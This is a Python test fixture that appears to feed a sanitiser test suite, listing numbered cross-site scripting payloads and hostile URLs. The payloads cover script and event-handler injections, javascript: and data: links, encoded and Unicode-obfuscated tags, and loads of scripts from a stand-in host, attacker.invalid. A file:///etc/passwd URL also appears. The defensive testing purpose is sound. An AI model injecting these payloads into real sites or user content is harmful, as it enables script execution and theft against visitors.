"""Payloads that somebody may put into an article to make the page run, load or open something."""

from collections.abc import Sequence

ELSEWHERE = "http://attacker.invalid"

_PAYLOADS = """\
<script>window.hacked=N</script>
<script src="§/N.js"></script>
<SCRIPT/SRC=§/N.js></SCRIPT>
<scr<script>ipt>window.hacked=N</scr</script>ipt>
<img src="§/N.png">
<img src=x onerror="window.hacked=N;alert(N)">
<img srcset="§/N.png 1x">
<IMG SRC=`javascript:alert(N)`>
<image src="§/N.png">
<svg onload="alert(N)"></svg>
<svg><image href="§/N.png"/></svg>
<svg><script>window.hacked=N</script></svg>
<svg><use href="§/N.svg#x"/></svg>
<svg><animate onbegin="alert(N)" attributeName="x" dur="1s"/></svg>
<iframe src="§/N"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hacked=N&lt;/script&gt;"></iframe>
<object data="§/N"></object>
<embed src="§/N">
<link rel="stylesheet" href="§/N.css">
<link rel="prefetch" href="§/N">
<meta http-equiv="refresh" content="0;url=§/N">
<base href="§/">
<form action="§/N"><input type="image" src="§/N.png" autofocus onfocus="alert(N)"></form>
<input autofocus onfocus="window.hacked=N">
<audio src="§/N.mp3" autoplay></audio>
<video src="§/N.mp4" poster="§/N.png" autoplay></video>
<video><source src="§/N.mp4" onerror="alert(N)"></video>
<track src="§/N.vtt">
<style>@import url("§/N.css"); body{background:url(§/N.png)}</style>
<div style="background:url(§/N.png)">Styled</div>
<p style="width:expression(alert(N))">Styled</p>
<body onload="alert(N)" background="§/N.png">
<table background="§/N.png"><tr><td>A cell</td></tr></table>
<details open ontoggle="alert(N)"><summary>More</summary></details>
<marquee onstart="alert(N)">Moving</marquee>
<a href="javascript:alert(N)">A link</a>
<a href="data:text/html,<script>alert(N)</script>">A link</a>
<a href="§/N" ping="§/ping" target="_blank">A link</a>
<template><script>window.hacked=N</script></template>
</template><script>window.hacked=N</script>
<noscript><p title="</noscript><img src=x onerror=alert(N)>">
</textarea><script>alert(N)</script>
</title><script>alert(N)</script>
</script><script>window.hacked=N</script>
</p></div></section></article><img src="§/N.png">
--><img src="§/N.png" onerror="alert(N)">
<![CDATA[><img src="§/N.png">]]>
<math><mtext><table><mglyph><style><img src=x onerror=alert(N)></style></mglyph></table></mtext></math>
<math href="javascript:alert(N)">x</math>
&lt;img src="§/N.png" onerror="alert(N)"&gt;
&#60;script&#62;window.hacked=N&#60;/script&#62;
%3Cscript%3Ewindow.hacked=N%3C/script%3E
\\u003cscript\\u003ewindow.hacked=N\\u003c/script\\u003e
" onmouseover="alert(N)" autofocus onfocus="alert(N)" x="
' onmouseover='alert(N)' style='background:url(§/N.png)' x='
` onmouseover=alert(N) x=`
" data-open="0-c1" data-copy="§/N" class="byline-marker" x="
<button data-open="article:1" onclick="alert(N)">[1]</button>
![a picture](§/N.png)
![a picture][ref] and [ref]: §/N.png
[![a picture](§/N.png)](javascript:alert(N))
[a link](javascript:alert(N))
<§/N>
```mermaid
graph TD; A-->B; click A "javascript:alert(N)"
```
$$\\href{javascript:alert(N)}{x} \\includegraphics{§/N.png}$$
\\(\\unicode{x3c}img src=§/N.png\\)
{{constructor.constructor("window.hacked=N")()}}
${window.hacked=N}
<x contenteditable onblur="alert(N)" tabindex=1 autofocus>Text</x>
<dialog open onclose="alert(N)">A dialog</dialog>
<isindex type=image src="§/N.png" onerror="alert(N)">
<\u202escript\u202c>window.hacked=N</script>
<ſcript src="§/N.js"></ſcript>
＜script＞window.hacked=N＜/script＞
"""


def payloads() -> Sequence[str]:
    """Return the payloads, each with a number of its own."""
    found: list[str] = []
    for line in _PAYLOADS.splitlines():
        if found and (line.startswith(("graph", "```")) and "mermaid" in found[-1] and not found[-1].endswith("\n```")):
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return [one.replace("§", ELSEWHERE).replace("N", str(number)) for number, one in enumerate(found, start=1)]


URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.invalid/x",
    'http://news.example/" onmouseover="alert(1)',
    "http://news.example/'><img src=http://attacker.invalid/u.png>",
    "blob:http://attacker.invalid/1",
    "ftp://attacker.invalid/",
)
